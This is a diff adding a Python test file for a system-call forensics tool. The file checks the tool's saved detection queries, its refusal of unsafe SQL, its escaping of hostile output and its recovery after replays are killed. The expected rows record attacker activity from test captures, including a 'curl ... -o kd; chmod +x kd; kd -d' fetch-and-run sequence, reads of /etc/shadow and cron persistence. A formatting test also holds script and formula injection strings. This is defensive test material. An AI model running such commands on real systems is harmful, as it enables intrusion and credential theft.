@@ -1,0 +1,255 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""The case: what replays put into it, what the saved queries make of it, and what is left when a replay is killed.
+
+The rows that are asked for here were worked out from the captures' events and from what makes the captures.
+usage: tests/case_test.py [--kills N]
+"""
+import argparse
+import json
+import os
+import random
+import re
+import shutil
+import signal
+import sqlite3
+import subprocess
+import sys
+import tempfile
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
+import check  # noqa: E402
+
+r = check.Results("case")
+OWN = os.path.join(check.ROOT, "tests", "captures")
+RULES = os.path.join(check.ROOT, "rules", "starter.yaml")
+QUERIES = os.path.join(check.ROOT, "queries")
+FACTS = ("processes", "execs", "files", "file_changes", "connections", "dns_names", "dns_addresses", "users", "sessions",
+         "session_commands", "containers", "mounts", "modules", "losses")
+
+
+def replay(case, *captures, rules=RULES, options=()):
+    return check.run(["replay", "-q", "-r", rules, "--db", case] + list(options) + list(captures))
+
+
+def query(case, sql, *options):
+    """Rows as objects."""
+    status, out, err = check.run(["query", "-f", "jsonl", case, sql] + list(options))
+    r.check(status == 0, "query %s" % sql[:60], "  status %d: %s" % (status, err))
+    return [json.loads(line) for line in out.splitlines()]
+
+
+def columns(rows, *names):
+    return [tuple(row[n] for n in names) for row in rows]
+
+
+def identities(case):
+    """Alerts as anybody may know them, with how often each is shown."""
+    db = sqlite3.connect(case)
+    rows = db.execute("SELECT capture_sha256, evt_offset, rule_digest, count(*) FROM v_alert GROUP BY 1, 2, 3 ORDER BY 1, 2, 3").fetchall()
+    db.close()
+    return rows
+
+
+def facts(case):
+    """What is known of the captures, without the numbers that say when it came into the case."""
+    db = sqlite3.connect(case)
+    out = {}
+    for table in FACTS:
+        names = [row[1] for row in db.execute("PRAGMA table_info(%s)" % table)]
+        ids = [n for n in names if n.endswith("_id") and n not in ("container_id",)]
+        shown = ", ".join("%s & 4294967295" % n if n in ids and n != "run_capture_id" else "NULL" if n == "run_capture_id" else n for n in names)
+        key = "run_capture_id" if "run_capture_id" in names else None
+        where = ("run_capture_id IN (SELECT reading_id FROM captures)" if key else
+                 "%s >> 32 IN (SELECT reading_id FROM captures)" % ids[0])
+        out[table] = sorted(map(repr, db.execute("SELECT %s FROM %s WHERE %s" % (shown, table, where))))
+    db.close()
+    return out
+
+
+def by_hand(folder):
+    """Questions and their answers, as the events of the captures have it."""
+    case = os.path.join(folder, "hand.db")
+    names = [os.path.join(OWN, n + ".scap") for n in ("intrusion", "network", "sessions", "uring")]
+    status, _, err = replay(case, *names)
+    r.check(status == 0, "a case of four captures of three hosts", err)
+    rows = query(case, "@written-then-executed")
+    r.equal(columns(rows, "pid", "exepath", "writer_pid", "writer"),
+            [(14124, "/dev/shm/wl-ls", 14123, "cp"), (14135, "/tmp/wl.2KBE/anti", 14134, "ld"), (14138, "/tmp/wl.2KBE/nginx", 14137, "cp"),
+             (14141, "/tmp/wl.2KBE/mysqld", 14140, "cp"), (14207, "/usr/bin/wl-bin", 14206, "cp")], "written, then executed")
+    r.equal(columns(query(case, "@executed-from-writable"), "pid", "exepath", "from_memory"),
+            [(14124, "/dev/shm/wl-ls", 0), (14127, "memfd:payload", 1), (14135, "/tmp/wl.2KBE/anti", 0), (14138, "/tmp/wl.2KBE/nginx", 0),
+             (14141, "/tmp/wl.2KBE/mysqld", 0)], "executed from where everybody may write")
+    r.equal(columns(query(case, "@executed-then-deleted"), "pid", "exepath", "deleted_by_pid"),
+            [(14124, "/dev/shm/wl-ls", 14125), (14135, "/tmp/wl.2KBE/anti", 14213), (14138, "/tmp/wl.2KBE/nginx", 14213),
+             (14141, "/tmp/wl.2KBE/mysqld", 14213), (14207, "/usr/bin/wl-bin", 14208)], "executed, then deleted")
+    r.equal(columns(query(case, "@became-root"), "pid", "login", "cmdline"),
+            [(820, "amy", "sudo -s"), (830, "amy", "sudo -s"), (840, "amy", "bash"), (850, "amy", "curl http://10.9.8.7/k -o kd"),
+             (851, "amy", "chmod +x kd"), (852, "amy", "kd -d"), (853, "amy", "sh -c uname -a"), (854, "amy", "ps ax")], "became root")
+    r.equal(columns(query(case, "@reparented"), "pid", "started_by", "now_below"), [(815, 810, 1), (852, 840, 1)], "reparented")
+    r.equal(columns(query(case, "@crashed"), "pid", "outcome"), [(2101, "signal 9"), (14147, "signal 15")], "ended by a signal")
+    r.equal(columns(query(case, "@kernel-changes"), "kind", "pid", "text"),
+            [("mount", 14193, "none -> /"), ("mount", 14193, "proc -> /proc"), ("mount", 14195, "none -> /mnt"), ("umount", 14196, " -> /mnt"),
+             ("mount", 14199, "/etc -> /tmp/wl.2KBE/bind"), ("umount", 14200, " -> /tmp/wl.2KBE/bind")], "mounts")
+    r.equal(columns(query(case, "@persistence"), "pid", "path", "bytes_written"),
+            [(14201, "/etc/cron.d/wl-test", 22), (14106, "/tmp/wl.2KBE/.bashrc", 11)], "persistence")
+    r.equal(columns(query(case, "@who-touched"), "pid", "comm", "bytes_read"), [(14109, "cat", 631), (14110, "cat", 631)], "who touched /etc/shadow")
+    r.equal(columns(query(case, "@commands-typed"), "user", "login_user", "remote", "cmdline")[:6],
+            [("amy", "amy", "203.0.113.9:51234", c) for c in ("id", "cat /var/log/auth.log", "grep sudo: amy", "ping 10.9.8.7", "sudo -s")]
+            + [("root", "amy", None, "bash")], "commands typed")
+    r.equal(columns(query(case, "@talkers", "-p", "limit=4"), "remote_ip", "bytes_out", "bytes_in")[2:],
+            [("10.9.8.7", 300, 12), ("203.0.113.9", 64, 0)], "talkers")
+    r.equal(columns(query(case, "@alerts-by-severity"), "priority", "alerts"),
+            [("Critical", 4), ("Error", 1), ("Warning", 16), ("Notice", 8), ("Informational", 1)], "alerts by severity")
+    return case
+
+
+def every_saved_query(case):
+    names = sorted(n[:-4] for n in os.listdir(QUERIES) if n.endswith(".sql"))
+    r.check(len(names) >= 25, "there are at least 25 saved queries")
+    listed = check.run(["query", "--list"])[1]
+    for name in names:
+        with open(os.path.join(QUERIES, name + ".sql")) as f:
+            text = f.read()
+        r.check(re.match(r"-- SPDX.*\n-- [A-Z].*\?\n", text) is not None, "%s has its question in words" % name)
+        r.check("  %s " % name in listed, "%s is listed" % name)
+        status, _, err = check.run(["query", case, "@" + name])
+        r.check(status == 0 and not err, "%s runs" % name, err)
+
+
+def refusals(case, folder):
+    """What is not allowed, and what is wrong with SQL, ends with a message."""
+    for sql, status, word in (("DELETE FROM alerts", 3, "authorized"), ("ATTACH 'x.db' AS x", 3, "authorized"),
+                              ("PRAGMA journal_mode = DELETE", 3, "authorized"), ("SELECT load_extension('x')", 3, ""),
+                              ("SELECT 1;\nSELECT fro m", 3, "line 2"), ("SELECT :a", 3, "-p a=VALUE"), ("@nothing", 3, "no saved query")):
+        got, _, err = check.run(["query", case, sql])
+        r.check(got == status and word in err, "%s is refused" % sql, "  status %d: %s" % (got, err))
+    r.check(not os.path.exists(os.path.join(folder, "x.db")), "nothing was attached")
+    for sql in ("UPDATE notes SET text = ''", "DELETE FROM verdicts", "DROP TABLE notes", "DROP TRIGGER notes_stay"):
+        got, _, err = check.run(["query", "--write", case, sql])
+        r.check(got == 3 and "authorized" in err, "%s is refused also with --write" % sql, err)
+    got = check.run(["query", "--write", case, "INSERT INTO notes (author, text) VALUES ('ada', 'x')"])
+    r.equal(got[0], 0, "a note is added")
+    db = sqlite3.connect(case)
+    try:
+        db.execute("UPDATE notes SET text = 'y'")
+        r.check(False, "a note stays in any program")
+    except sqlite3.DatabaseError as e:
+        r.check("append-only" in str(e), "a note stays in any program", str(e))
+    db.close()
+    forever = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"
+    got, _, err = check.run(["query", "--timeout", "200ms", case, forever])
+    r.check(got == 5 and "--timeout" in err, "a query ends with its time", "  status %d: %s" % (got, err))
+    got, _, err = check.run(["query", "--mem-limit", "20M", case, "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9000) "
+                             "SELECT group_concat(hex(randomblob(4000))) FROM n"])
+    r.check(got in (3, 5), "a query ends with its memory", "  status %d: %s" % (got, err))
+    p = check.popen([check.scapula_path(), "query", case, forever], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    time.sleep(1)
+    p.send_signal(signal.SIGINT)
+    _, err = p.communicate(timeout=60)
+    r.check(p.returncode == 130 and b"interrupted" in err, "a query is interrupted", err.decode())
+
+
+def formats(case):
+    """The same rows in every format; nothing hostile gets through."""
+    sql = "SELECT 1 AS a, NULL AS a, '=1+1' AS \"b|c\", char(27) || '[2J<script>[x](y)' AS d, x'00ff' AS e"
+    want = {"text": "\\x1b", "csv": "'=1+1", "jsonl": '"a_2":null', "markdown": "\\<script\\>"}
+    for name, word in want.items():
+        status, out, err = check.run(["query", "-f", name, case, sql])
+        r.check(status == 0 and word in out and "\x1b" not in out, "format %s" % name, out + err)
+    row = json.loads(check.run(["query", "-f", "jsonl", case, sql])[1])
+    r.equal(row["d"], "\x1b[2J<script>[x](y)", "JSON keeps the text")
+
+
+def repeated(folder):
+    """A capture that is replayed again, under another name, with other rules: nothing twice."""
+    case, moved = os.path.join(folder, "again.db"), os.path.join(folder, "moved.scap")
+    replay(case, check.DEMO)
+    first, before = identities(case), facts(case)
+    shutil.copy(check.DEMO, moved)
+    replay(case, moved)
+    r.equal(identities(case), first, "the same alerts once")
+    r.equal(facts(case), before, "the same facts")
+    r.equal([n for *_, n in first], [1] * len(first), "each alert is shown once")
+    r.equal(columns(query(case, "SELECT count(*) n FROM captures UNION ALL SELECT count(*) FROM run_captures"), "n"), [(1,), (2,)], "one capture, two readings")
+    r.equal(columns(query(case, "SELECT sum(alerts) n FROM v_rule_count"), "n"), [(len(first),)], "counts know of repeats")
+    r.equal(columns(query(case, "SELECT count(*) n FROM v_finding"), "n"), [(2 * len(first),)], "both runs found them")
+
+
+def killed(folder, kills):
+    """SIGKILL at any moment: the case opens, the run is unfinished, and again completes it."""
+    rng, clean = random.Random(5), os.path.join(folder, "clean.db")
+    long = os.path.join(folder, "long.scap")
+    data = check.read_all(check.DEMO)
+    with open(long, "wb") as f:
+        for _ in range(6):
+            f.write(data)
+    start = time.monotonic()
+    replay(clean, long)
+    whole = time.monotonic() - start
+    want, want_facts = identities(clean), facts(clean)
+    begun = unfinished = 0
+    for i in range(kills):
+        case = os.path.join(folder, "killed.db")
+        for name in os.listdir(folder):
+            if name.startswith("killed.db"):
+                os.unlink(os.path.join(folder, name))
+        p = check.popen([check.scapula_path(), "replay", "-q", "-r", RULES, "--db", case, long], stdout=subprocess.DEVNULL,
+                        stderr=subprocess.DEVNULL)
+        time.sleep(rng.random() * whole * 1.1)
+        p.kill()
+        p.wait()
+        if not os.path.exists(case):
+            continue
+        db = sqlite3.connect(case)
+        if db.execute("SELECT count(*) FROM sqlite_schema").fetchone()[0]:
+            begun += 1
+            ok = db.execute("PRAGMA integrity_check").fetchone()[0]
+            r.check(ok == "ok", "killed %d: integrity" % i, ok)
+            states = db.execute("SELECT status FROM v_run").fetchall()
+            unfinished += states == [("unfinished",)]
+            r.check(states in ([], [("unfinished",)], [("finished",)]), "killed %d: the run is marked" % i, str(states))
+            sums = db.execute("SELECT (SELECT count(*) FROM alerts), (SELECT ifnull(sum(alerts), 0) FROM alert_groups)").fetchone()
+            r.check(sums[0] == sums[1], "killed %d: counts agree with rows" % i, str(sums))
+        db.close()
+        status, _, err = replay(case, long)
+        r.check(status == 0, "killed %d: again" % i, err)
+        r.check(identities(case) == want, "killed %d: the same alerts once" % i)
+        if i % 10 == 0:
+            r.check(facts(case) == want_facts, "killed %d: the same facts" % i)
+    r.check(unfinished > kills // 3, "kills meet replays at work", "%d of %d, %d begun" % (unfinished, kills, begun))
+
+
+def documented(folder):
+    """The shell session of the document, to the letter."""
+    with open(os.path.join(check.ROOT, "docs", "case.md")) as f:
+        text = f.read()
+    shutil.copy(check.DEMO, os.path.join(folder, "capture.scap"))
+    shutil.copy(RULES, os.path.join(folder, "rules.yaml"))
+    os.symlink(check.scapula_path(), os.path.join(folder, "scapula"))
+    env = dict(os.environ, TZ="UTC", PATH=folder + ":" + os.environ["PATH"], HOME=folder)
+    blocks = re.findall(r"```console\n(.*?)```", text, re.S)
+    r.check(len(blocks) >= 3, "the document has a session")
+    for command, want in re.findall(r"^\$ (.*?)\n((?:(?!\$ ).*\n)*)", "".join(blocks), re.M):
+        p = subprocess.run(["bash", "-c", command], cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=120)
+        r.equal(p.stdout.decode(), want, "docs/case.md: %s" % command)
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--kills", type=int, default=100)
+    kills = parser.parse_args().kills
+    with tempfile.TemporaryDirectory() as folder:
+        case = by_hand(folder)
+        every_saved_query(case)
+        formats(case)
+        refusals(case, folder)
+        repeated(folder)
+        killed(folder, kills)
+    with tempfile.TemporaryDirectory() as folder:
+        documented(folder)
+    r.finish()
+
+
+main()
